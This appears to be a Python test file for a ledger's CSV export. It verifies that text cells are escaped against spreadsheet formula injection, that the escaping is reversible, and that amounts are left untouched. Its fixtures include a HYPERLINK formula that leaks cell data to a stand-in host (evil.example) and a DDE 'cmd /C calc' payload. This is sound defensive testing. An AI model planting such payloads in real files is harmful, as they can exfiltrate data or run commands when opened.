"""CSV exports neutralise formula injection in text columns (OWASP's guidance) and say so
in the manifest; the exact value stays recoverable, and amounts are never touched."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from sqlalchemy import Engine

from creditunion.platform.database import unit_of_work
from ledger.export.csv_format import neutralise_text, restore_text
from ledger.export.gl import general_ledger
from ledger.export.run import ExportFormat, snapshot, write_report
from ledger.export.statement import StatementFilter, statement_report
from ledger.models import AccountType
from ledger.posting import post_entry
from tests.ledger_helpers import gbp, new_account, transfer
from tests.seal_helpers import D1, D3

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "'plain quote",
    "harmless = text",
)
WRITTEN = (
    '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "'+1+cmd|' /C calc'!A0",
    "'-2+3",
    "'@SUM(A1:A9)",
    "'\t=1+1",
    "'\r=1+1",
    "''=already quoted",
    "''plain quote",
    "harmless = text",
)


def test_the_rule_is_exactly_reversible() -> None:
    assert tuple(neutralise_text(value) for value in HOSTILE) == WRITTEN
    assert tuple(restore_text(value) for value in WRITTEN) == HOSTILE
    assert neutralise_text("") == ""


def test_text_is_neutralised_amounts_are_not_and_the_manifest_says_how(
    fresh_engine: Engine, tmp_path: Path
) -> None:
    with unit_of_work(fresh_engine) as s:
        cash = new_account(s, AccountType.ASSET, name="-Cash")
        member = new_account(s, name="=cmd|'/C calc'!A0")
        for description in HOSTILE:
            post_entry(
                s,
                transfer(
                    cash.id, member.id, gbp("12.00"), business_date=D1, description=description
                ),
            )

        # Paid back out: a debit on the member's (liability) account, -5.00 on its statement.
        post_entry(s, transfer(member.id, cash.id, gbp("5.00"), business_date=D1))

    with snapshot(fresh_engine) as session:
        gl = write_report(
            session,
            general_ledger(session, from_date=D1, to_date=D3),
            ExportFormat.CSV,
            tmp_path / "gl.csv",
        )
        statement = write_report(
            session,
            statement_report(
                session,
                statement_filter=StatementFilter(
                    account_code=member.code, from_date=D1, to_date=D3
                ),
            ),
            ExportFormat.CSV,
            tmp_path / "st.csv",
        )

    postings = list(
        csv.DictReader(io.StringIO((tmp_path / "gl.csv").read_bytes().decode(), newline=""))
    )
    assert tuple(r["description"] for r in postings[:-2:2]) == WRITTEN
    assert tuple(restore_text(r["description"]) for r in postings[:-2:2]) == HOSTILE
    assert {r["account_name"] for r in postings} == {"'-Cash", "'=cmd|'/C calc'!A0"}
    # No text cell a spreadsheet would run is left.
    for row in postings:
        for name in ("description", "account_name", "reference", "posted_by"):
            assert not (row[name] or "x").startswith(("=", "+", "-", "@", "\t", "\r"))

    lines = list(
        csv.DictReader(io.StringIO((tmp_path / "st.csv").read_bytes().decode(), newline=""))
    )
    amounts = {r["amount"] for r in lines}
    assert amounts == {"12.00", "-5.00"}, amounts
    running = [r["running_balance"] for r in lines]
    assert running[-1] == "103.00", running  # nine of 12.00 in, 5.00 out

    for result in (gl, statement):
        assert result.manifest["text_escaping"]["restore"].startswith("remove one leading '")
        written = json.loads(result.manifest_path.read_text())
        assert written["text_escaping"] == result.manifest["text_escaping"]


def test_other_formats_keep_text_as_it_is(fresh_engine: Engine, tmp_path: Path) -> None:
    with unit_of_work(fresh_engine) as s:
        cash = new_account(s, AccountType.ASSET)
        member = new_account(s)
        post_entry(
            s, transfer(cash.id, member.id, gbp("1.00"), business_date=D1, description="=1+1")
        )
    with snapshot(fresh_engine) as session:
        result = write_report(
            session,
            general_ledger(session, from_date=D1, to_date=D3),
            ExportFormat.JSONL,
            tmp_path / "gl.jsonl",
        )
    first = json.loads((tmp_path / "gl.jsonl").read_text().splitlines()[0])
    assert first["description"] == "=1+1"
    assert "text_escaping" not in result.manifest
